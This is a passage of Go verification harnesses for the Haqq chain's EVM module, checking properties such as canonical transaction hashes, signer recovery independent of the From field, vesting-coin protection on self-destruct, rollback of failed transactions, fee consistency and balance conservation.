		tx = ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: 1, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
	}
	msg := &MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	canonical := tx.Hash().Hex()
	zz.Assert(msg.Hash == canonical, "wrapping records the canonical hash")
	switch zz.Choose("spelling", 5) {
	case 1:
		msg.Hash = "0x" + strings.ToUpper(canonical[2:])
	case 2:
		msg.Hash = canonical[2:]
	case 3:
		msg.Hash = "0xdeadbeef" + canonical[2:]
	case 4:
		msg.Hash = "0x" + strings.Repeat("0", 64)
	}
	err := msg.ValidateBasic()
	if err == nil {
		zz.Assert(msg.Hash == msg.AsTransaction().Hash().Hex(), "a message accepted by ValidateBasic records exactly the canonical Ethereum hash")
		zz.Reach("accepted")
	} else {
		zz.Reach("?rejected")
	}
	zz.Reach("end")
}

// c18Envelope: a decoded Cosmos transaction as UnwrapEthereumMsg sees it (only GetMsgs is used).
type c18Envelope struct{ msgs []sdk.Msg }

func (e c18Envelope) GetMsgs() []sdk.Msg   { return e.msgs }
func (e c18Envelope) ValidateBasic() error { return nil }

// VerifC18_UnwrapKeepsRecordedHashes: an envelope of one to three wrapped transactions (one of each type), then one or two
// lookups by hash (the hash of any carried message, or a hash no message has). After every lookup each message of the
// envelope still records its own Ethereum hash; a hit returns exactly the message with that hash, a miss returns an error.
func VerifC18_UnwrapKeepsRecordedHashes() {
	to := common.HexToAddress("0xAbCdEf0123456789abcdef0123456789ABCDEF01")
	all := []*ethtypes.Transaction{
		ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: 1, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(27), R: big.NewInt(1), S: big.NewInt(1)}),
		ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: big.NewInt(11235), Nonce: 2, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)}),
		ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: 3, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)}),
	}
	n := 1 + zz.Choose("messages", 3)
	first := zz.Choose("firstType", 3)
	env := c18Envelope{}
	var own []common.Hash
	for i := 0; i < n; i++ {
		tx := all[(first+i)%3]
		m := &MsgEthereumTx{}
		if err := m.FromEthereumTx(tx); err != nil {
			panic(err)
		}
		env.msgs = append(env.msgs, m)
		own = append(own, tx.Hash())
	}
	var stx sdk.Tx = env
	lookups := 1 + zz.Choose("lookups", 2)
	for l := 0; l < lookups; l++ {
		k := zz.Choose("target", n+2) // n: the zero hash (Resend), n+1: some other hash
		var h common.Hash
		switch {
		case k < n:
			h = own[k]
		case k == n+1:
			h = common.HexToHash("0x1111111111111111111111111111111111111111111111111111111111111111")
		}
		got, err := UnwrapEthereumMsg(&stx, h)
		if k < n {
			zz.Assert(err == nil && got == env.msgs[k].(*MsgEthereumTx), "a lookup by the hash of a carried message returns that message")
			if err == nil {
				zz.Assert(got.Hash == h.Hex(), "the returned message records the hash it was looked up by")
			}
		} else {
			zz.Assert(err != nil && got == nil, "a lookup by a hash no message has finds nothing")
		}
		for i, m := range env.msgs {
			em := m.(*MsgEthereumTx)
			zz.Assert(em.Hash == own[i].Hex(), "after a lookup every message of the envelope still records its own Ethereum hash")
			zz.Assert(em.ValidateBasic() == nil, "after a lookup every message of the envelope still passes ValidateBasic")
		}
	}
	zz.Reach("end")
}
