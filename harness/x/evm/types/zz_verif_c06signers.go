package types

// Harness for property C06 / C03 at the message itself: gov proposals, authz dispatch and interchain-account packets run
// messages straight from the message router, without any ante handler, and decide authorship from GetSigners() alone. For
// an Ethereum message the signer is whoever the ECDSA signature recovers to - never the unsigned From field, which whoever
// assembles the surrounding transaction can set at will (for example to the gov module account).

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/ethereum/go-ethereum/core/types.recoverPlain -> c06Recover
//verif:override github.com/ethereum/go-ethereum/core/types.rlpHash -> c06RlpHash
//verif:override github.com/ethereum/go-ethereum/core/types.prefixedRlpHash -> c06PrefixedRlpHash

var c06Signer = common.HexToAddress("0x1000000000000000000000000000000000000001")

// elliptic-curve recovery and the signing hash are outside the claim: "the signature recovers to the key holder"
func c06Recover(sighash common.Hash, R, S, Vb *big.Int, homestead bool) (common.Address, error) {
	return c06Signer, nil
}
func c06RlpHash(x interface{}) common.Hash                      { return common.Hash{1} }
func c06PrefixedRlpHash(prefix byte, x interface{}) common.Hash { return common.Hash{2} }

func VerifC06_SignersIgnoreFromField() {
	to := common.HexToAddress("0x3000000000000000000000000000000000000003")
	var tx *ethtypes.Transaction
	switch zz.Choose("txType", 3) {
	case 0:
		tx = ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: 1, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(11235*2 + 35), R: big.NewInt(1), S: big.NewInt(1)})
	case 1:
		tx = ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: big.NewInt(11235), Nonce: 1, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
	default:
		tx = ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: 1, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
	}
	msg := &MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	other := common.HexToAddress("0x7b5Fe22B5446f7C62Ea27B8BD71CeF94e03f3dF2") // e.g. the gov module account
	msg.From = []string{"", c06Signer.Hex(), other.Hex()}[zz.Choose("fromField", 3)]
	signers := msg.GetSigners()
	zz.Assert(len(signers) == 1 && signers[0].Equals(sdk.AccAddress(c06Signer.Bytes())), "the only signer of an Ethereum message is the account its signature recovers to, whatever the unsigned From field says")
	zz.Reach("end")
}
