package keeper

// Harness for property C08 on the SELFDESTRUCT path: a clawback vesting account can sit on an address that carries contract
// code (CREATE at a pre-funded vesting address, liquid-vesting redeem to a contract). When that code self-destructs, the
// StateDB's Commit calls the keeper's DeleteAccount, which clears the balance through the bank. The only thing that protects
// the locked coins there is the bank asking the auth account for its LockedCoins - so the account must still exist while
// the balance is cleared: clearing succeeds only for what is spendable.

import (
	"errors"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/x/evm/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// c08kBank is c02kBank plus the one rule of the real bank that matters here: coins leaving an account must be spendable,
// i.e. balance - LockedCoins(block time) of the auth account stored at that address (no account: nothing is locked).
type c08kBank struct {
	c02kBank
	ak  *c02kAK
	now time.Time
}

func (b *c08kBank) SendCoinsFromAccountToModule(ctx sdk.Context, from sdk.AccAddress, m string, amt sdk.Coins) error {
	locked := sdkmath.ZeroInt()
	if va, ok := b.ak.accs[string(from)].(*vestingtypes.ClawbackVestingAccount); ok {
		locked = va.LockedCoins(b.now).AmountOf("aISLM")
	}
	if b.get(from).Sub(locked).LT(amt.AmountOf("aISLM")) {
		return errors.New("spendable balance is smaller than the amount")
	}
	return b.c02kBank.SendCoinsFromAccountToModule(ctx, from, m, amt)
}

func VerifC08_SelfDestructOfVestingContract() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	now := zz.AnyInt64In("now", 0, int64(1)<<41)
	start := zz.AnyInt64In("start", 0, int64(1)<<40)
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	bank := &c08kBank{c02kBank: c02kBank{bal: map[string]sdkmath.Int{}, supply: sdk.ZeroInt()}, ak: ak, now: time.Unix(now, 0)}
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak}
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(ctx, p); err != nil {
		panic(err)
	}
	a := sdk.AccAddress(c02kA.Bytes())
	amt := zz.AnyAmount("granted", 100)
	zz.Assume(amt.IsPositive())
	total := sdk.NewCoins(sdk.NewCoin("aISLM", amt))
	lockLen := zz.AnyInt64In("lockLen", 1, int64(1)<<36)
	code := common.Hash{7}
	va := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(a), sdk.AccAddress(c02kB.Bytes()), total, time.Unix(start, 0),
		sdkvesting.Periods{{Length: lockLen, Amount: total}}, sdkvesting.Periods{{Length: zz.AnyInt64In("vestLen", 0, int64(1)<<36), Amount: total}}, &code)
	ak.accs[string(a)] = va
	bal := zz.AnyAmount("balance", 101)
	bank.bal[string(a)], bank.supply = bal, bal
	locked := va.LockedCoins(time.Unix(now, 0)).AmountOf("aISLM")
	zz.Assume(locked.LTE(bal)) // the account holds at least what is locked (no delegations here)

	err := k.DeleteAccount(ctx, c02kA)

	if err == nil {
		zz.Assert(locked.IsZero(), "a vesting contract that self-destructs can only have its spendable coins cleared: with locked coins the deletion fails")
		zz.Reach("deleted")
	} else {
		zz.Assert(bank.get(a).Equal(bal) && bank.supply.Equal(bal), "a refused deletion leaves balance and supply untouched")
		zz.Assert(ak.accs[string(a)] != nil, "a refused deletion leaves the account (its schedule and the funder's clawback right) in place")
		zz.Reach("refused")
	}
	zz.Reach("end")
}
