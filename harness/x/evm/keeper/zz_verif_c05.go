package keeper

// Harness for property C05 at transaction level: "a transaction that ultimately fails changes nothing except the fee payment
// and the nonce". ApplyTransaction runs the message in a cache context that is written back only when the message and the
// post-processing hooks succeed; the interpreter (stubbed: arbitrary outcome) makes an EVM storage write and a Cosmos-side
// write - the latter straight into the SDK context, as a stateful precompile does.

import (
	"errors"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/x/evm/statedb"
	"github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (*github.com/haqq-network/haqq/x/evm/keeper.Keeper).EVMConfig -> c05EVMConfig except=VerifC07_ConfigBaseFeeIsTheAnteBaseFee
//verif:override (*github.com/ethereum/go-ethereum/core/types.Transaction).AsMessage -> c05AsMessage

var c05 struct {
	msg ethtypes.Message
	cfg *statedb.EVMConfig
}

func c05EVMConfig(k *Keeper, ctx sdk.Context, proposerAddress sdk.ConsAddress, chainID *big.Int) (*statedb.EVMConfig, error) {
	return c05.cfg, nil
}
func c05AsMessage(tx *ethtypes.Transaction, s ethtypes.Signer, baseFee *big.Int) (ethtypes.Message, error) {
	return c05.msg, nil
}

type c05Hooks struct{ fail bool }

func (h c05Hooks) PostTxProcessing(ctx sdk.Context, msg core.Message, receipt *ethtypes.Receipt) error {
	if h.fail {
		return errors.New("hook refused")
	}
	return nil
}

func VerifC05_ApplyTransaction() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	bank := &c02kBank{bal: map[string]sdk.Int{}, supply: sdk.ZeroInt()}
	bank.bal[string(sdk.AccAddress(c07From.Bytes()))] = zz.AnyAmount("balance", 100)
	gasLimit := zz.AnyUint64In("gasLimit", 0, 1<<40)
	bank.bal[string(c02kMod(authtypes.FeeCollectorName))] = sdk.NewIntFromUint64(gasLimit) // the ante handler deducted gasLimit x price (price 1) up front
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	nonce := zz.AnyUint64In("msgNonce", 0, 1<<40)
	acc := &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(sdk.AccAddress(c07From.Bytes())), CodeHash: common.BytesToHash(types.EmptyCodeHash).Hex()}
	if err := acc.SetSequence(nonce + 1); err != nil {
		panic(err)
	}
	ak.accs[string(acc.GetAddress())] = acc
	hookFails := zz.AnyBool("postProcessingHookFails")
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak,
		feeMarketKeeper: c07FeeMarket{mult: sdk.ZeroDec()}, hooks: c05Hooks{fail: hookFails}, eip155ChainID: big.NewInt(11235)}
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	c05.cfg = &statedb.EVMConfig{Params: p, ChainConfig: p.ChainConfig.EthereumConfig(big.NewInt(11235)), BaseFee: big.NewInt(0)}
	c07.leftover = zz.AnyUint64("evmLeftover")
	c07.refund = 0
	c07.fail = zz.AnyBool("vmError")
	c07.intrinsic = zz.AnyUint64In("intrinsicGas", 0, 1<<40)
	c07.createBumpsNonce = true
	c07.effects, c07.storeKey = true, env.Key("evm")
	defer func() { c07.effects = false }()
	create := zz.AnyBool("contractCreation")
	to := &c07To
	if create {
		to = nil
	}
	c05.msg = ethtypes.NewMessage(c07From, to, nonce, big.NewInt(0), gasLimit, big.NewInt(1), big.NewInt(1), big.NewInt(1), nil, nil, false)
	tx := ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: nonce, GasPrice: big.NewInt(1), Gas: gasLimit, To: to, Value: big.NewInt(0)})
	ctx := env.Ctx.WithBlockHeight(10)
	// the Ethereum messages of one Cosmos transaction share a running total of the gas they used (transient store): the
	// transaction's gas meter, the block gas meter and with it the fee market's gas figure are set from it
	prior := zz.AnyUint64In("gasUsedByEarlierMessagesOfTheTransaction", 0, 1<<40)
	k.SetTransientGasUsed(ctx, prior)

	res, err := k.ApplyTransaction(ctx, tx)
	if err != nil {
		// the message could not even be applied (intrinsic gas): the error aborts the Cosmos transaction as a whole
		zz.Reach("rejected")
		return
	}
	store := ctx.KVStore(env.Key("evm"))
	cosmosEffect := store.Has([]byte("zz-precompile-effect"))
	evmEffect := k.GetState(ctx, c07To, common.Hash{31: 1}) != (common.Hash{})
	failed := res.Failed()
	zz.Assert(failed == (c07.fail || hookFails), "the transaction is reported failed exactly when the VM or a post-processing hook failed")
	if failed {
		zz.Assert(!cosmosEffect, "a failed transaction leaves no Cosmos-side effect of a precompile call behind")
		zz.Assert(!evmEffect, "a failed transaction leaves no contract storage write behind")
		zz.Reach("failed")
	} else {
		zz.Assert(cosmosEffect && evmEffect, "a successful transaction keeps its effects")
		zz.Reach("succeeded")
	}
	zz.Assert(k.GetTransientGasUsed(ctx) == prior+res.GasUsed, "the running total of gas used by the transaction's Ethereum messages grows by this message's gas (whether or not hooks are set, whether or not it failed)")
	zz.Assert(ak.accs[string(acc.GetAddress())].GetSequence() >= nonce+1, "the nonce stays consumed")
	zz.Reach("end")
}
