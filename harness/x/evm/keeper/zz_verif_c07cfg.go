package keeper

// Harness for property C07 where the two halves of one transaction's fee meet: the ante handler deducts gasLimit x effective
// price computed with Keeper.GetBaseFee, execution refunds (gasLimit - gasUsed) x effective price computed with the base fee
// in EVMConfig. The sender ends up paying gasUsed x price only if both read the same base fee - at every height, also while
// the fee market is scheduled but not yet active.

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// c07cFeeMarket: a fee market that holds a base fee and its activation parameters
type c07cFeeMarket struct {
	baseFee      *big.Int
	enableHeight int64
	noBaseFee    bool
}

func (f c07cFeeMarket) GetBaseFee(ctx sdk.Context) *big.Int {
	if f.noBaseFee {
		return nil
	}
	return f.baseFee
}
func (f c07cFeeMarket) GetParams(ctx sdk.Context) feemarkettypes.Params {
	p := feemarkettypes.DefaultParams()
	p.EnableHeight = f.enableHeight
	p.NoBaseFee = f.noBaseFee
	p.BaseFee = sdk.NewIntFromBigInt(f.baseFee)
	return p
}
func (f c07cFeeMarket) AddTransientGasWanted(ctx sdk.Context, gasWanted uint64) (uint64, error) { return 0, nil }
func (f c07cFeeMarket) CalculateBaseFee(ctx sdk.Context) *big.Int                               { return nil }

type c07cSK struct{ c01SK }

func (s *c07cSK) GetValidatorByConsAddr(ctx sdk.Context, consAddr sdk.ConsAddress) (stakingtypes.Validator, bool) {
	return stakingtypes.Validator{OperatorAddress: sdk.ValAddress(c07To.Bytes()).String()}, true
}

func VerifC07_ConfigBaseFeeIsTheAnteBaseFee() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	fm := c07cFeeMarket{baseFee: zz.AnyBigAmount("baseFee", 100), enableHeight: zz.AnyInt64In("enableHeight", 0, 1<<40), noBaseFee: zz.AnyBool("noBaseFee")}
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), feeMarketKeeper: fm, stakingKeeper: &c07cSK{}, eip155ChainID: big.NewInt(11235)}
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	ctx := env.Ctx.WithBlockHeight(zz.AnyInt64In("height", 1, 1<<40))
	cfg, err := k.EVMConfig(ctx, sdk.ConsAddress([]byte{1, 2, 3}), big.NewInt(11235))
	if err != nil {
		panic(err)
	}
	ante := k.GetBaseFee(ctx, cfg.ChainConfig) // what VerifyFee / CanTransfer / the min-gas-price decorator charge with
	zz.Assert((cfg.BaseFee == nil) == (ante == nil), "execution and ante handler agree on whether there is a base fee")
	if cfg.BaseFee != nil && ante != nil {
		zz.Assert(cfg.BaseFee.Cmp(ante) == 0, "the base fee execution refunds with is the base fee the ante handler charged with, before and after the fee market's activation height")
	}
	zz.Reach("end")
}
