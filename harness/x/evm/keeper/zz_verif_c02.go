package keeper

// Harness for property C02, keeper side: where the EVM's view of an account is written back to x/bank (SetAccount ->
// SetBalance: mint / burn of the difference; DeleteAccount). A value transfer is a burn at the sender plus a mint at the
// recipient, so conservation needs each write-back to land the exact balance.

import (
	"errors"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"

	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/x/evm/statedb"
	"github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// c02kBank: a one-denomination bank: balances, module balance, supply; refuses overdrafts.
type c02kBank struct {
	bal    map[string]sdkmath.Int
	supply sdkmath.Int
}

func (b *c02kBank) get(a sdk.AccAddress) sdkmath.Int {
	if v, ok := b.bal[string(a)]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (b *c02kBank) move(from, to sdk.AccAddress, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	if b.get(from).LT(a) {
		return errors.New("insufficient funds")
	}
	b.bal[string(from)] = b.get(from).Sub(a)
	b.bal[string(to)] = b.get(to).Add(a)
	return nil
}
func c02kMod(n string) sdk.AccAddress { return authtypes.NewModuleAddress(n) }

func (b *c02kBank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.get(addr))
}
func (b *c02kBank) SendCoinsFromModuleToAccount(ctx sdk.Context, m string, to sdk.AccAddress, amt sdk.Coins) error {
	return b.move(c02kMod(m), to, amt)
}
func (b *c02kBank) SendCoinsFromAccountToModule(ctx sdk.Context, from sdk.AccAddress, m string, amt sdk.Coins) error {
	return b.move(from, c02kMod(m), amt)
}
func (b *c02kBank) MintCoins(ctx sdk.Context, m string, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	b.bal[string(c02kMod(m))] = b.get(c02kMod(m)).Add(a)
	b.supply = b.supply.Add(a)
	return nil
}
func (b *c02kBank) BurnCoins(ctx sdk.Context, m string, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	if b.get(c02kMod(m)).LT(a) {
		return errors.New("insufficient funds to burn")
	}
	b.bal[string(c02kMod(m))] = b.get(c02kMod(m)).Sub(a)
	b.supply = b.supply.Sub(a)
	return nil
}
func (b *c02kBank) IsSendEnabledCoins(ctx sdk.Context, coins ...sdk.Coin) error { return nil }
func (b *c02kBank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error {
	return b.move(from, to, amt)
}

type c02kAK struct{ accs map[string]authtypes.AccountI }

func (a *c02kAK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	return &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(addr), CodeHash: common.Hash{}.Hex()}
}
func (a *c02kAK) GetModuleAddress(n string) sdk.AccAddress { return c02kMod(n) }
func (a *c02kAK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI { panic("not used") }
func (a *c02kAK) IterateAccounts(ctx sdk.Context, cb func(account authtypes.AccountI) bool) {
	panic("not used")
}
func (a *c02kAK) GetSequence(sdk.Context, sdk.AccAddress) (uint64, error) { return 0, nil }
func (a *c02kAK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if x, ok := a.accs[string(addr)]; ok {
		return x
	}
	return nil
}
func (a *c02kAK) SetAccount(ctx sdk.Context, acc authtypes.AccountI)    { a.accs[string(acc.GetAddress())] = acc }
func (a *c02kAK) RemoveAccount(ctx sdk.Context, acc authtypes.AccountI) { delete(a.accs, string(acc.GetAddress())) }
func (a *c02kAK) GetParams(ctx sdk.Context) (p authtypes.Params)        { return }

var (
	c02kA = common.HexToAddress("0x1000000000000000000000000000000000000001")
	c02kB = common.HexToAddress("0x2000000000000000000000000000000000000002")
)

// VerifC02_KeeperFlush: a transfer A -> B as the StateDB commits it (two SetAccount calls with the new balances, either
// order) or a self-destruct of A (DeleteAccount) lands exactly the EVM's balances in the bank and changes the supply only by
// the sanctioned burn.
func VerifC02_KeeperFlush() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	bank := &c02kBank{bal: map[string]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak}
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	balA, balB := zz.AnyAmount("bal.A", 128), zz.AnyAmount("bal.B", 128)
	a, b := sdk.AccAddress(c02kA.Bytes()), sdk.AccAddress(c02kB.Bytes())
	bank.bal[string(a)], bank.bal[string(b)] = balA, balB
	bank.supply = balA.Add(balB)
	if zz.AnyBool("accountAExists") {
		ak.accs[string(a)] = ak.NewAccountWithAddress(env.Ctx, a)
	}
	v := zz.AnyAmount("value", 128)
	zz.Assume(v.LTE(balA)) // CanTransfer
	newA, newB := balA.Sub(v), balB.Add(v)
	supply0 := bank.supply

	if zz.AnyBool("selfDestruct") {
		// A self-destructs to B: B is credited A's whole balance, A is deleted
		zz.Assume(v.Equal(balA))
		ak.accs[string(a)] = ak.NewAccountWithAddress(env.Ctx, a)
		if zz.AnyBool("beneficiaryFirst") {
			zz.Assert(k.SetAccount(env.Ctx, c02kB, statedb.Account{Balance: newB.BigInt()}) == nil, "write-back of the beneficiary succeeds")
			zz.Assert(k.DeleteAccount(env.Ctx, c02kA) == nil, "deleting the self-destructed account succeeds")
		} else {
			zz.Assert(k.DeleteAccount(env.Ctx, c02kA) == nil, "deleting the self-destructed account succeeds")
			zz.Assert(k.SetAccount(env.Ctx, c02kB, statedb.Account{Balance: newB.BigInt()}) == nil, "write-back of the beneficiary succeeds")
		}
		zz.Reach("self-destruct")
	} else {
		if zz.AnyBool("recipientFirst") {
			zz.Assert(k.SetAccount(env.Ctx, c02kB, statedb.Account{Balance: newB.BigInt()}) == nil, "write-back of the recipient succeeds")
			zz.Assert(k.SetAccount(env.Ctx, c02kA, statedb.Account{Balance: newA.BigInt()}) == nil, "write-back of the sender succeeds")
		} else {
			zz.Assert(k.SetAccount(env.Ctx, c02kA, statedb.Account{Balance: newA.BigInt()}) == nil, "write-back of the sender succeeds")
			zz.Assert(k.SetAccount(env.Ctx, c02kB, statedb.Account{Balance: newB.BigInt()}) == nil, "write-back of the recipient succeeds")
		}
		zz.Reach("transfer")
	}
	zz.ObserveInt("final.A", bank.get(a))
	zz.ObserveInt("final.B", bank.get(b))
	zz.ObserveInt("supply", bank.supply)
	zz.Assert(bank.get(a).Equal(newA), "the sender's bank balance is exactly the EVM's balance")
	zz.Assert(bank.get(b).Equal(newB), "the recipient's bank balance is exactly the EVM's balance")
	zz.Assert(bank.supply.Equal(supply0), "the write-back of a transfer leaves the total supply unchanged")
	zz.Assert(bank.get(c02kMod(types.ModuleName)).IsZero(), "nothing is left in the evm module account")
	zz.Reach("end")
}

// VerifC05_KeeperWriteBack: what the StateDB writes back is exactly what the keeper stores. After a mid-transaction flush
// (every stateful precompile begins with one) a reverted frame is undone by writing the restored - lower - nonce and the
// restored balance back; so SetAccount must store any nonce and balance it is given, whatever is stored already, and
// GetAccount must read the same values back.
func VerifC05_KeeperWriteBack() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	bank := &c02kBank{bal: map[string]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak}
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	a := sdk.AccAddress(c02kA.Bytes())
	bal0 := zz.AnyAmount("stored.balance", 128)
	bank.bal[string(a)], bank.supply = bal0, bal0
	if zz.AnyBool("accountExists") {
		acc := ak.NewAccountWithAddress(env.Ctx, a)
		_ = acc.SetSequence(zz.AnyUint64("stored.nonce"))
		ak.accs[string(a)] = acc
		zz.Reach("?existing")
	}
	n := zz.AnyUint64("written.nonce")
	b := zz.AnyAmount("written.balance", 128)
	code := common.Hash{byte(zz.Choose("written.codeHash", 2))}
	zz.Assert(k.SetAccount(env.Ctx, c02kA, statedb.Account{Nonce: n, Balance: b.BigInt(), CodeHash: code.Bytes()}) == nil, "the write-back succeeds")
	got := k.GetAccount(env.Ctx, c02kA)
	zz.Assert(got != nil, "the written account exists")
	zz.Assert(got.Nonce == n, "the stored nonce is exactly the nonce written back (also when it is lower than before)")
	zz.Assert(got.Balance.Cmp(b.BigInt()) == 0, "the stored balance is exactly the balance written back")
	zz.Assert(common.BytesToHash(got.CodeHash) == code, "the stored code hash is exactly the one written back")
	zz.Reach("end")
}
