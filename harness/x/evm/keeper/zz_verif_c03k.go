package keeper

// Harness for property C03 (a transaction is executed once): executing an Ethereum message must never lower the sender's
// sequence below the value the ante handler left. A Cosmos transaction may batch several Ethereum messages; the ante handler
// advances the sequence once per message before any of them runs, so while message i (nonce m) executes the account's
// sequence may already be larger than m+1.

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/x/evm/statedb"
	"github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// VerifC03_ExecutionKeepsSequence: after ApplyMessageWithConfig (call or contract creation, any interpreter outcome) the
// sender's sequence is still the one the ante handler set (>= nonce + 1), so no already executed message of the same
// transaction becomes acceptable again.
func VerifC03_ExecutionKeepsSequence() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	bank := &c07Bank{senderAddr: sdk.AccAddress(c07From.Bytes())}
	bank.sender = zz.AnyAmount("balance", 100)
	bank.collector = sdk.ZeroInt()
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	nonce := zz.AnyUint64In("msgNonce", 0, 1<<40)
	later := zz.AnyUint64In("laterMessagesInTheSameTx", 0, 3) // messages after this one that the ante handler has also accepted
	seq0 := nonce + 1 + later
	acc := &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(sdk.AccAddress(c07From.Bytes())), CodeHash: common.BytesToHash(types.EmptyCodeHash).Hex()}
	if err := acc.SetSequence(seq0); err != nil {
		panic(err)
	}
	ak.accs[string(acc.GetAddress())] = acc
